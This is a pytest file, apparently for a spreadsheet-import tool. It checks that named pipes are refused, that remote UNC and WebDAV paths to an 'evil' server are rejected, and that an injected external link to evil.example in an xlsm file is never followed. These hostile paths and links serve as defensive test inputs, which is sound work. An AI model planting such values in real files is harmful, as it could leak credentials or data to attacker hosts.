@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes")
def test_what_never_ends_is_not_read(book, tmp_path):
    os.mkfifo(tmp_path / "June.csv")
    with pytest.raises(ReturnRefused, match="neither a file nor a folder"):
        refresh(book, tmp_path / "June.csv")
    os.mkfifo(tmp_path / "book.xlsm")
    with pytest.raises(WorkbookRefused, match="This is no file"):
        ClosedBook(tmp_path / "book.xlsm").read()


@pytest.mark.parametrize(
    ("written", "server"),
    [
        (r"\\evil\share", "evil"),
        ("//evil/share/June.csv", "evil"),
        (r"\\evil@SSL\DavWWWRoot\June.csv", "evil@ssl"),
        (r"\\?\UNC\evil\share\June.csv", "?"),
        (r"\\.\pipe\June", "."),
        (r"\/evil\share", "evil"),
    ],
)
def test_a_workbook_does_not_send_us_to_another_computer(book, written, server):
    rows = dataset_file.read(book).tables["Settings"].rows
    at = [row[0] for row in rows].index(Settings.RETURN)
    kept = [Row((written if n == at else row[1],), n) for n, row in enumerate(rows)]
    dataset_file.apply(book, Update((SetRows("Settings", ("Value",), tuple(kept)),)))
    with pytest.raises(ReturnRefused, match=re.escape(f"another computer ({server})")):
        refresh(book, None)


def test_macros_and_links_in_a_return_are_never_run_or_followed(book, tmp_path):
    path = tmp_path / "June.xlsm"
    path.write_bytes(ready_bytes())
    link = (
        b'<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLink" Target="http://evil.example/x" TargetMode="External"/>'
        b"</Relationships>"
    )
    rels = "xl/_rels/workbook.xml.rels"
    inject(path, {}, {rels: lambda data: data.replace(b"</Relationships>", link)})
    before = path.read_bytes()
    assert all(
        "evil" not in str(found.problem) for found in check_book(ClosedBook(book), OCCASION, path)
    )
    assert path.read_bytes() == before
